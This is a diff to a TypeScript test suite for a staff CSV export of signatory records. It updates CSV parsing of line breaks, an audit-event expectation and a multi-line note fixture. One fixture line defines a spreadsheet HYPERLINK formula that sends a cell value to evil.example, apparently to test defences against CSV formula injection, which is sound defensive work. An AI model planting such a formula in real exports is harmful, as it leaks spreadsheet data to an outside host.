@@ -26,7 +26,7 @@ const BASE = Date.parse("2026-11-01T09:00:00.000Z");
 const HOUR = 60 * 60 * 1000;
 const FORMULA_NAME = '=HYPERLINK("https://evil.example/?"&A1,"Click")';
 
-/** RFC 4180 parsing, enough to read back what the export wrote: quotes, doubled quotes, CRLF. */
+/** RFC 4180 parsing, enough to read back what the export wrote: quotes, doubled quotes, line breaks. */
 function parseCsv(text: string): string[][] {
   const rows: string[][] = [];
   let row: string[] = [];
@@ -44,12 +44,13 @@ function parseCsv(text: string): string[][] {
     else if (c === ",") {
       row.push(cell);
       cell = "";
-    } else if (c === "\r" && text[i + 1] === "\n") {
+    } else if (c === "\r" || c === "\n") {
+      // A line break outside quotes ends the record, as a spreadsheet reads it.
       row.push(cell);
       rows.push(row);
       row = [];
       cell = "";
-      i += 1;
+      if (c === "\r" && text[i + 1] === "\n") i += 1;
     } else cell += c;
   }
   if (cell !== "" || row.length > 0) {
@@ -179,7 +180,12 @@ describe.each(PROVIDERS)("staff export people as CSV on %s", (provider) => {
     const events = await db.auditEvent.findMany();
     expect(events).toHaveLength(1);
     expect(events[0]).toMatchObject({ actor: ACTOR, action: "export-signatures", subject: "signatures" });
-    expect(JSON.parse(events[0]!.detail!)).toEqual({ filters: {}, rows: 2_000, complete: true });
+    expect(JSON.parse(events[0]!.detail!)).toEqual({
+      filters: {},
+      rows: 2_000,
+      complete: true,
+      startedAt: new Date(BASE).toISOString(),
+    });
   });
 
   it("uses 5,000-row batches by default and still sends a header when nothing matches", async () => {
@@ -273,7 +279,12 @@ describe.each(PROVIDERS)("staff export people as CSV on %s", (provider) => {
       data: people.map((p) => ({
         id: p.id,
         emailLookup: lookup(p.email),
-        ...sealPersonal(ring, { name: p.name, email: p.email, phone: p.phone, note: "Happy to help, =1+1" }),
+        ...sealPersonal(ring, {
+          name: p.name,
+          email: p.email,
+          phone: p.phone,
+          note: "Happy to help\non two lines =1+1",
+        }),
         healthBoard: p.board,
         helpWith: "msp,media",
         contactBy: "email",
@@ -303,7 +314,7 @@ describe.each(PROVIDERS)("staff export people as CSV on %s", (provider) => {
     expect(morag[5]).toBe(
       "Contact or meet my MSP (Member of the Scottish Parliament); Share my story with the media",
     );
-    expect(morag[7]).toBe("Happy to help, =1+1");
+    expect(morag[7]).toBe("Happy to help\non two lines =1+1");
     expect(all.find((row) => row[0] === people[2]!.id)![3]).toBe("");
 
     const highlandConfirmed = (await read({ healthBoard: "Highland", status: "confirmed" })).slice(1);
